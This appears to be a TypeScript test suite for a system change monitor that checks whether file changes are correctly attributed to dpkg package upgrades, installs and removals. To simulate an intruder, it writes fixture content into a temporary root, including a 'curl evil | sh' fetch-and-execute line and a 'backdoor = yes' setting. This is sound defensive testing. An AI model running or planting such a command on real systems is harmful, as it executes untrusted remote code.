/**
 * The packages collector on a real dpkg database in a temporary root, with the real core
 * (config loader, runner, SQLite store, differ, report builder): an upgrade, an install and a
 * removal between two sessions are explained; hand-made changes are not.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { loadConfig } from '../../config/config.js';
import { collect } from '../../core/runner.js';
import { buildReport } from '../../core/report.js';
import type { Report, ReportChange } from '../../core/report-model.js';
import { Store } from '../../store/store.js';
import { conffileCollector } from '../conffile/index.js';
import { fileCollector } from '../file/index.js';
import { packagesCollector } from './index.js';
import { DpkgRoot, buildDeb, haveDpkg } from './testdata/dpkg-root.js';

const COLLECTORS = [fileCollector, conffileCollector, packagesCollector];
const quiet = { debug() {}, info() {}, warn() {}, error() {} };

interface Setup {
  dir: string;
  root: string;
  db: DpkgRoot;
  debs: string;
  confFile: string;
}

function setup(packagesConf = ''): Setup {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'scm-packages-'));
  const root = path.join(dir, 'root');
  const debs = path.join(dir, 'debs');
  fs.mkdirSync(debs);
  const db = new DpkgRoot(root);
  const etc = path.join(dir, 'etc');
  fs.mkdirSync(path.join(etc, 'plugins.d'), { recursive: true });
  const confFile = path.join(etc, 'syschangemon.conf');
  fs.writeFileSync(confFile, `[syschangemon]\n[storage]\ndir = ${dir}/storage\n`);
  fs.writeFileSync(path.join(etc, 'plugins.d', 'file.conf'), `[file]\nenable_plugin = true\ninclude =\n  ${root}/usr/**\n  ${root}/etc/**\n`);
  fs.writeFileSync(path.join(etc, 'plugins.d', 'conffile.conf'), `[conffile]\nenable_plugin = true\nexclude =\n  ${root}/usr/**\n`);
  fs.writeFileSync(
    path.join(etc, 'plugins.d', 'packages.conf'),
    `[packages]\nenable_plugin = true\nadmindir = ${db.admindir}\nroot = ${root}\ndpkg_log = ${db.log}\n${packagesConf}`,
  );
  return { dir, root, db, debs, confFile };
}

async function snapshot(s: Setup) {
  const cfg = loadConfig({ file: s.confFile, collectors: COLLECTORS, env: {} });
  const store = Store.open(cfg.dbPath);
  try {
    return (await collect(cfg, store, COLLECTORS, quiet, 'host')).session;
  } finally {
    store.close();
  }
}

async function report(s: Setup): Promise<Report> {
  const cfg = loadConfig({ file: s.confFile, collectors: COLLECTORS, env: {} });
  const store = Store.open(cfg.dbPath);
  try {
    const [b, a] = store.sessions(2);
    return buildReport(store, cfg, COLLECTORS, a!, b!, quiet, { mailState: 'none' });
  } finally {
    store.close();
  }
}

const FOO_1 = { '/usr/bin/foo-tool': '#!/bin/sh\necho foo 1.0\n', '/usr/bin/foo-helper': 'helper\n', '/etc/foo.conf': 'level = 1\n', '/usr/share/doc/foo/OLD-NOTES': 'old\n' };
const FOO_2 = { '/usr/bin/foo-tool': '#!/bin/sh\necho foo 1.1\n', '/usr/bin/foo-helper': 'helper 1.1\n', '/etc/foo.conf': 'level = 2\n', '/usr/bin/foo-new': 'new in 1.1\n' };

describe('an upgrade between two sessions', { skip: !haveDpkg() && 'dpkg is not installed' }, () => {
  let s: Setup;
  let r: Report;
  const change = (p: string, plugin = 'file'): ReportChange | undefined => r.changes.find((c) => c.key === `${plugin}://${s.root}${p}`);

  before(async () => {
    s = setup();
    const d = (spec: Parameters<typeof buildDeb>[1]) => buildDeb(s.debs, spec);
    s.db.install(
      d({ name: 'foo', version: '1.0', files: FOO_1, conffiles: ['/etc/foo.conf'] }),
      d({ name: 'bar', version: '2.0', files: { '/usr/bin/bar': 'bar\n' } }),
      d({ name: 'qux', version: '3.0', files: { '/usr/bin/qux': 'qux\n' } }),
    );
    fs.mkdirSync(path.join(s.root, 'usr/local/bin'), { recursive: true });
    fs.writeFileSync(path.join(s.root, 'usr/local/bin/outside'), 'mine\n');
    await snapshot(s);

    s.db.install(
      d({ name: 'foo', version: '1.1', files: FOO_2, conffiles: ['/etc/foo.conf'] }),
      d({ name: 'baz', version: '0.9', files: { '/usr/bin/baz': 'baz\n', '/etc/baz.conf': 'baz = 1\n' }, conffiles: ['/etc/baz.conf'] }),
    );
    s.db.remove('bar');
    // What an intruder does: after the upgrade, in the upgraded package, in an untouched
    // package, outside any package, and in a conffile installed in the same window.
    fs.writeFileSync(path.join(s.root, 'usr/bin/foo-helper'), 'helper 1.1\ncurl evil | sh\n');
    fs.writeFileSync(path.join(s.root, 'usr/bin/qux'), 'qux trojan\n');
    fs.writeFileSync(path.join(s.root, 'usr/local/bin/outside'), 'changed\n');
    fs.writeFileSync(path.join(s.root, 'etc/baz.conf'), 'baz = 1\nbackdoor = yes\n');
    await snapshot(s);
    r = await report(s);
  });
  after(() => fs.rmSync(s.dir, { recursive: true, force: true }));

  test('upgraded, installed and removed files are explained by their package', () => {
    assert.equal(change('/usr/bin/foo-tool')?.explained_by, 'foo:all 1.0 → 1.1');
    assert.equal(change('/usr/bin/foo-new')?.change, 'added');
    assert.equal(change('/usr/bin/foo-new')?.explained_by, 'foo:all 1.0 → 1.1');
    assert.equal(change('/usr/share/doc/foo/OLD-NOTES')?.change, 'removed');
    assert.equal(change('/usr/share/doc/foo/OLD-NOTES')?.explained_by, 'foo:all 1.0 → 1.1');
    assert.equal(change('/usr/bin/baz')?.explained_by, 'baz:all 0.9 (installed)');
    assert.equal(change('/usr/bin/bar')?.change, 'removed');
    assert.equal(change('/usr/bin/bar')?.explained_by, 'bar:all 2.0 (removed)');
  });

  test('a conffile the package replaced and nobody edited is explained, as file and as conffile', () => {
    assert.equal(change('/etc/foo.conf')?.explained_by, 'foo:all 1.0 → 1.1');
    const cf = change('/etc/foo.conf', 'conffile');
    assert.ok(cf?.diff?.includes('+level = 2'));
    assert.equal(cf?.explained_by, 'foo:all 1.0 → 1.1');
  });

  test('directories of a changed package are explained', () => {
    const dir = change('/usr/bin');
    assert.ok(dir, 'the /usr/bin mtime changed');
    assert.ok(dir.explained_by);
  });

  test('hand-made changes are never explained', () => {
    for (const p of ['/usr/bin/foo-helper', '/usr/bin/qux', '/usr/local/bin/outside', '/etc/baz.conf']) {
      const c = change(p);
      assert.ok(c, `${p} is reported`);
      assert.equal(c.explained_by, undefined, `${p} must stay unexplained`);
    }
    assert.equal(change('/etc/baz.conf', 'conffile')?.explained_by, undefined);
  });

  test('report.packages, summary.explained, the dpkg.log cross-check', () => {
    const byName = Object.fromEntries((r.packages ?? []).map((p) => [p.name, p]));
    assert.deepEqual(Object.keys(byName).sort(), ['bar', 'baz', 'foo']);
    assert.deepEqual({ ...byName.foo, explained: 0 }, { name: 'foo', arch: 'all', change: 'changed', old: '1.0', new: '1.1', explained: 0 });
    assert.equal(byName.baz!.change, 'added');
    assert.equal(byName.bar!.change, 'removed');
    // The package items' own changes carry their operation too, but only file changes are counted.
    assert.equal(r.changes.find((c) => c.key === 'package://foo:all')?.explained_by, 'foo:all 1.0 → 1.1');
    const explained = r.changes.filter((c) => c.explained_by && c.plugin !== 'packages').length;
    assert.equal(r.summary.explained, explained);
    assert.equal((r.packages ?? []).reduce((n, p) => n + p.explained, 0), explained);
    assert.ok(r.package_log?.some((e) => e.action === 'upgrade' && e.package === 'foo' && e.old === '1.0' && e.new === '1.1'));
    assert.ok(r.package_log?.some((e) => e.action === 'remove' && e.package === 'bar'));
    assert.ok(r.notes?.some((n) => /dpkg\.log lists \d+ operations/.test(n)), r.notes?.join('\n'));
    assert.ok(!r.notes?.some((n) => n.includes('is not in')), r.notes?.join('\n'));
  });

  test('internal verification items are not reported; package changes carry no file-list diff', () => {
    assert.ok(!r.changes.some((c) => c.key.startsWith('package-verify://')));
    const foo = r.changes.find((c) => c.key === 'package://foo:all');
    assert.deepEqual(foo?.attributes.version, { old: '1.0', new: '1.1' });
    assert.equal(foo?.diff, undefined);
  });
});

describe('without a package operation nothing is explained', { skip: !haveDpkg() && 'dpkg is not installed' }, () => {
  test('a tampered package file in a quiet window; then a reinstall of the same version', async () => {
    const s = setup();
    try {
      const deb = buildDeb(s.debs, { name: 'foo', version: '1.0', files: FOO_1, conffiles: ['/etc/foo.conf'] });
      s.db.install(deb);
      await snapshot(s);
      fs.writeFileSync(path.join(s.root, 'usr/bin/foo-tool'), 'tampered\n');
      await snapshot(s);
      let r = await report(s);
      assert.equal(r.changes.find((c) => c.key.endsWith('/usr/bin/foo-tool'))?.explained_by, undefined);
      assert.equal(r.summary.explained, 0);
      assert.equal(r.packages, undefined);

      // apt reinstall: same version, files rewritten; the tampered file is restored.
      s.db.install(deb);
      await snapshot(s);
      r = await report(s);
      const tool = r.changes.find((c) => c.key.endsWith('/usr/bin/foo-tool'));
      assert.equal(tool?.explained_by, 'foo:all 1.0 (reinstalled)');
    } finally {
      fs.rmSync(s.dir, { recursive: true, force: true });
    }
  });

  test('collapse_explained = false leaves every change in full but still counts', async () => {
    const s = setup('collapse_explained = false\n');
    try {
      s.db.install(buildDeb(s.debs, { name: 'foo', version: '1.0', files: FOO_1, conffiles: ['/etc/foo.conf'] }));
      await snapshot(s);
      s.db.install(buildDeb(s.debs, { name: 'foo', version: '1.1', files: FOO_2, conffiles: ['/etc/foo.conf'] }));
      await snapshot(s);
      const r = await report(s);
      assert.ok(!r.changes.some((c) => c.explained_by));
      assert.ok(r.summary.explained! > 0);
      assert.equal(r.packages?.[0]?.explained, r.summary.explained);
    } finally {
      fs.rmSync(s.dir, { recursive: true, force: true });
    }
  });
});
